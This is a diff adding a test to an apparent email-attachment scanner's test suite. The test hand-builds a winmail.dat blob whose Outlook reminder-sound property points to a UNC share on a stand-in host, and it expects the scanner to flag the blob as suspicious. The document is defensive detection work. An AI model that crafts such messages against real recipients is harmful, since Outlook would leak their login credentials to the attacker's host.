@@ -228,6 +228,16 @@ def test_the_envelope_of_outlook_gives_its_files() -> None:
     assert [("winmail.dat", False), ("invoice.scr", True)] == [(one.name, one.octets == EICAR) for one in things]
 
 
+def test_a_reminder_that_sounds_from_elsewhere_is_told() -> None:
+    """Outlook fetches the sound of a reminder unasked, with a login."""
+    share = "\\\\192.0.2.1\\a\\b.wav\0".encode("utf-16-le")
+    named = struct.pack("<HH16sIIII", 0x1F, 0x851F, bytes(16), 0, 0x851F, 1, len(share)) + share
+    properties = struct.pack("<I", 1) + named + bytes(-len(share) % 4)
+    octets = b"\x78\x9f\x3e\x22\1\0\1" + struct.pack("<HHI", 0x9003, 6, len(properties)) + properties + b"\0\0"
+
+    assert Severity.SUSPICIOUS is _only(octets, "winmail.dat", Kind.SHORTCUT).severity
+
+
 def test_binhex_gives_its_file() -> None:
     """BinHex 4.0 is decoded, its runs too (RFC 1741)."""
     digits = b"!\"#$%&'()*+,-012345689@ABCDEFGHIJKLMNPQRSTUVXYZ[`abcdefhijklmpqr"
